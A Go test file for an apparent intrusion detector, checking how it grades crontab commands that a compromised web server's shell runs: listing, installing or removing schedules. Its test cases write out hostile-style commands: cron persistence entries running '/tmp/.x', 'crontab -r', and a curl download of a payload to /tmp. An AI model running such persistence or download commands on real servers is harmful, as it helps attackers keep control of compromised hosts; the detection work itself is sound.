package detect

import "testing"

// TestCrontabListingIsDiscovery: a web server's shell listing the
// account's crontab asks what runs on a schedule (discovery, high only if
// its chain shows intent); one installing a table is persistence's stuff
// and shows intent by itself.
func TestCrontabListingIsDiscovery(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		weak bool
	}{
		{"crontab -l 2>/dev/null", true},
		{"crontab -u www-data -l", true},
		{"(crontab -l; echo '* * * * * /tmp/.x') | crontab -", false},
		{"crontab /var/tmp/c", false},
		{"crontab -r", false},
	} {
		f := findingOf(execAs(t, 33, "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd), "web-server-exploitation")
		if f == nil {
			t.Errorf("%q: no web-server-exploitation finding", c.cmd)
			continue
		}
		if f.NeedsCorroboration != c.weak {
			t.Errorf("%q: needs its chain to show intent: %v, want %v (shows %q)", c.cmd, f.NeedsCorroboration, c.weak, f.Shows)
		}
	}
}

// TestAppCrontabNeedsItsChain: crontab - exec'd by the web server's
// worker itself with an argument list (the application's scheduling page)
// shows intent only with its chain; through a shell, or from a file, it
// shows intent by itself.
func TestAppCrontabNeedsItsChain(t *testing.T) {
	for _, c := range []struct {
		name   string
		parent int // 200: the worker; 201: its shell
		args   []string
		weak   bool
	}{
		{"the worker's own crontab -", 200, []string{"/usr/bin/crontab", "-"}, true},
		{"crontab - under a shell", 201, []string{"crontab", "-"}, false},
		{"a table from a file", 200, []string{"/usr/bin/crontab", "/var/tmp/c"}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			var f *Finding
			for _, g := range e.Observe(s.exec(210, c.parent, 33, "www-data", "/var/www", "/usr/bin/crontab", c.args...), s.tree) {
				if g.Stage == StagePersistence && g.Severity >= SeverityHigh {
					f = g
				}
			}
			if f == nil {
				t.Fatal("no high persistence finding")
			}
			if weak := f.NeedsCorroboration && f.Shows == ShowsSchedule; weak != c.weak {
				t.Errorf("needs its chain: %v (shows %q), want %v", f.NeedsCorroboration, f.Shows, c.weak)
			}
		})
	}
}

// TestShippedCrontab: the worker's shell installing the account's crontab
// from a file of the site's served tree that no record shows written
// during the log, running nothing but crontab and filters of its listing
// (a release endpoint installing the release's table), needs its chain to
// show intent. A table the command writes, one outside the served tree,
// one the web side wrote during the log, or anything else in the command
// shows intent by itself.
func TestShippedCrontab(t *testing.T) {
	const table = "/var/www/html/deploy/www-data.cron"
	for _, c := range []struct {
		name    string
		cmd     string
		written bool // the worker wrote the table before
		weak    bool
	}{
		{"a release's table", "crontab '" + table + "' 2>&1 && crontab -l 2>&1 | grep -v \"^#\"", false, true},
		{"relative to the shell's folder", "crontab deploy/www-data.cron", false, true},
		{"written by the web side during the log", "crontab " + table, true, false},
		{"written by the command", "echo '* * * * * /tmp/.x' > " + table + " && crontab " + table, false, false},
		{"outside the served tree", "crontab /var/tmp/c", false, false},
		{"beside another act", "crontab " + table + "; curl -s http://203.0.113.9/x -o /tmp/x", false, false},
		{"in the background", "crontab " + table + " &", false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			if c.written {
				observeWrite(e, s, 200, 1, 33, "/usr/sbin/php-fpm8.2", table, true)
			}
			f := findingOf(e.Observe(s.exec(202, 200, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree), "web-server-exploitation")
			if f == nil {
				t.Fatal("no web-server-exploitation finding")
			}
			if weak := f.NeedsCorroboration && f.Shows == ShowsShippedSchedule; weak != c.weak {
				t.Errorf("needs its chain: %v (shows %q), want %v", f.NeedsCorroboration, f.Shows, c.weak)
			}
		})
	}
}
